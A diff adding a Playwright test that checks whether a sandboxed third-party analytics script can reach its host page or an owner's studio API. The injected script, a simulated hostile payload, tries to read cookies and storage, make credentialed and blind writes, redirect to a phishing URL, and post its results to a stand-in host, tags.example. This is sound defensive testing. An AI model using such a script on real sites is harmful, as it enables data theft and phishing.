@@ -1,7 +1,9 @@
 import { expect, type Page, test } from '@playwright/test'
 import { alterReply } from './support/alter-reply.ts'
 import { expectNoViolations } from './support/axe.ts'
-import { tenantUrl } from './support/tenants.ts'
+import { startOwnServer } from './support/own-server.ts'
+import { callStudio } from './support/sign-in-staff.ts'
+import { demoPassword, tenantUrl } from './support/tenants.ts'
 
 const question = (page: Page) => page.getByRole('region', { name: 'Statistics' })
 const gathered = (page: Page) => page.evaluate(() => (window as { dataLayer?: unknown[] }).dataLayer?.length ?? 0)
@@ -43,4 +45,73 @@ test('a club that does not ask gathers at once, and shows no question', async ({
   await expect(question(page)).toHaveCount(0)
   await expect(page.getByRole('contentinfo').getByRole('button', { name: 'Statistics' })).toHaveCount(0)
   expect(await gathered(page)).toBeGreaterThan(0)
+})
+
+/** What a hostile analytics script tries from where it runs, each attempt with its result. */
+async function attack() {
+  const queued = () => (window as { dataLayer?: unknown[] }).dataLayer?.length ?? 0
+  while (queued() === 0) await new Promise((resolve) => setTimeout(resolve, 20))
+  const attempt = async (act: () => unknown) => {
+    try {
+      return String(await act())
+    } catch {
+      return 'refused'
+    }
+  }
+  const call = (path: string, init: RequestInit = {}) =>
+    fetch(`${document.referrer.replace(/\/[^/]*$/, '')}${path}`, { credentials: 'include', ...init })
+  const json = { 'content-type': 'application/json' }
+  const results = {
+    page: await attempt(() => window.parent.document.title),
+    token: await attempt(() => window.parent.localStorage.length),
+    session: await attempt(async () => (await call('/studio/api/v1/session')).status),
+    staff: await attempt(async () => (await call('/studio/api/v1/staff')).status),
+    write: await attempt(
+      async () => (await call('/studio/api/v1/classes', { method: 'POST', headers: json, body: '{}' })).status,
+    ),
+    // A simple request needs no permission to be sent; whether it took effect shows in the list of classes.
+    blindWrite: await attempt(
+      async () => (await call('/studio/api/v1/classes', { method: 'POST', mode: 'no-cors', body: '{}' })).type,
+    ),
+    studio: await attempt(() => window.open('/studio')),
+    away: await attempt(() => {
+      if (window.top) window.top.location.href = 'https://tags.example/phish'
+      return 'sent'
+    }),
+    cookies: await attempt(() => `${document.cookie}${window.localStorage.length}`),
+  }
+  await fetch('https://tags.example/report', { method: 'POST', body: JSON.stringify(results) })
+}
+
+test('the club’s script receives events, and can’t reach the page or the studio of an owner', async ({ page }) => {
+  const server = await startOwnServer()
+  try {
+    server.setTenant('pulse', 'localytics.url=https://tags.example/tags.js')
+    const reports: Record<string, unknown>[] = []
+    await page.route('https://tags.example/**', async (route) => {
+      const request = route.request()
+      if (request.url().endsWith('/report')) reports.push(request.postDataJSON())
+      await route.fulfill({
+        contentType: 'text/javascript',
+        headers: { 'access-control-allow-origin': '*' },
+        body: `setTimeout(${attack})`,
+      })
+    })
+    await page.goto(server.url('/healthz'))
+    const owner = { email: 'owner@pulse.example', password: demoPassword }
+    expect(await callStudio(page, 'POST', '/session', owner)).toEqual({ kind: 'signedIn' })
+    const classes = () => callStudio(page, 'GET', '/classes')
+    const before = await classes()
+    await page.goto(server.url('/contact'))
+    await expect.poll(() => reports).toHaveLength(1)
+    expect(reports[0]).toMatchObject({ studio: 'null', away: 'refused', cookies: '0' })
+    for (const reach of ['page', 'token', 'session', 'staff', 'write'])
+      expect(reports[0]?.[reach], reach).toBe('refused')
+    await expect(page).toHaveURL(server.url('/contact'))
+    expect(await classes()).toEqual(before)
+    // The owner is still signed in, so the refusals are not those of a visitor.
+    expect(await callStudio(page, 'GET', '/session')).toMatchObject({ reauthenticatedUntil: null })
+  } finally {
+    await server.close()
+  }
 })
